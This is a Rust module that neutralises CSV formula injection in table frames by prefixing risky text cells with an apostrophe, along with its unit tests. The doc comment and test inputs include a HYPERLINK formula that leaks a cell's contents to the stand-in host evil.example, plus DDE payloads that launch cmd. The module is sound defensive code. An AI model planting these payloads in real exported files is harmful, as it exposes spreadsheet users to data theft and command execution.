//! Text cells made safe for spreadsheets (CSV formula injection).
//!
//! In: a table frame about to be written as CSV. Out: the same frame, where
//! every text cell that a spreadsheet would run as a formula starts with an
//! apostrophe. Guarantees: OWASP's CSV-injection rule — a text cell that
//! begins with `=`, `+`, `@`, a tab, a carriage return, or `-` when the
//! cell is not a plain number, gets a leading `'` (Excel and LibreOffice
//! then show it as text, and hide the apostrophe). Numbers, nulls and every
//! other cell are written as they are; the Parquet and Arrow files keep the
//! data unchanged, since no spreadsheet evaluates them. Area and group codes
//! and file names come from downloaded files, so they can carry an attack
//! such as `=HYPERLINK("http://evil.example/?leak="&A1,"x")`; the
//! `excel-fi` style exists precisely so that people open these files in
//! Excel.

use std::borrow::Cow;

use polars::prelude::*;

/// Whether a spreadsheet would read `text` as a formula.
pub fn is_formula_like(text: &str) -> bool {
    match text.as_bytes().first() {
        Some(b'=' | b'+' | b'@' | b'\t' | b'\r') => true,
        // A negative number is data; "-1+1" or "-cmd" is not.
        Some(b'-') => text.parse::<f64>().is_err(),
        _ => false,
    }
}

/// `text`, with a leading `'` when a spreadsheet would read it as a formula.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if is_formula_like(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// The frame with every text cell neutralised. Only columns that hold a
/// formula-like cell are rebuilt: a dictionary-encoded (Enum) column is
/// checked through its categories and written as plain text only then.
pub fn safe_for_spreadsheets(frame: &DataFrame) -> PolarsResult<Cow<'_, DataFrame>> {
    let mut replaced: Vec<(usize, Column)> = Vec::new();
    for (index, column) in frame.columns().iter().enumerate() {
        let text = match column.dtype() {
            DataType::String => column.clone(),
            DataType::Enum(categories, _) => {
                let formula = categories.categories().values_iter().any(is_formula_like);
                if !formula {
                    continue;
                }
                column.cast(&DataType::String)?
            }
            _ => continue,
        };
        let strings = text.str()?;
        if !strings.iter().flatten().any(is_formula_like) {
            continue;
        }
        let safe: StringChunked = strings.iter().map(|cell| cell.map(neutralise)).collect();
        replaced.push((index, safe.with_name(column.name().clone()).into_column()));
    }
    if replaced.is_empty() {
        return Ok(Cow::Borrowed(frame));
    }
    let mut columns = frame.columns().to_vec();
    for (index, column) in replaced {
        columns[index] = column;
    }
    Ok(Cow::Owned(DataFrame::new(frame.height(), columns)?))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_get_an_apostrophe_and_numbers_do_not() {
        for attack in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"x\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "-",
        ] {
            assert_eq!(neutralise(attack), format!("'{attack}"), "{attack:?}");
        }
        for data in [
            "-0.5",
            "-12",
            "kunta.444",
            "8-9",
            "2025Q3",
            "",
            "'=x",
            " =1",
        ] {
            assert_eq!(neutralise(data), data, "{data:?}");
        }
    }

    #[test]
    fn text_and_enum_columns_are_neutralised_and_numbers_kept() {
        let categories = FrozenCategories::new(["=1+1", "kunta.444"]).unwrap();
        let dtype = DataType::from_frozen_categories(categories);
        let physical = DataType::from(dtype.cat_physical().unwrap());
        let codes = UInt32Chunked::from_slice("area".into(), &[0, 1, 0])
            .into_series()
            .cast(&physical)
            .unwrap();
        let area = Series::from_cats_and_dtype(&codes, &dtype, true)
            .unwrap()
            .into_column();
        let frame = DataFrame::new(
            3,
            vec![
                area,
                Column::new("source".into(), ["@x", "a.csv:2", "-1"]),
                Column::new("value".into(), [-1.0, 2.0, 3.0]),
            ],
        )
        .unwrap();
        let safe = safe_for_spreadsheets(&frame).unwrap();
        let text = |name: &str| -> Vec<String> {
            safe.column(name)
                .unwrap()
                .str()
                .unwrap()
                .iter()
                .map(|c| c.unwrap().to_string())
                .collect()
        };
        assert_eq!(text("area"), ["'=1+1", "kunta.444", "'=1+1"]);
        assert_eq!(text("source"), ["'@x", "a.csv:2", "-1"]);
        assert_eq!(
            safe.column("value").unwrap(),
            frame.column("value").unwrap()
        );

        let plain = DataFrame::new(1, vec![Column::new("a".into(), ["b"])]).unwrap();
        assert!(matches!(
            safe_for_spreadsheets(&plain).unwrap(),
            Cow::Borrowed(_)
        ));
    }
}
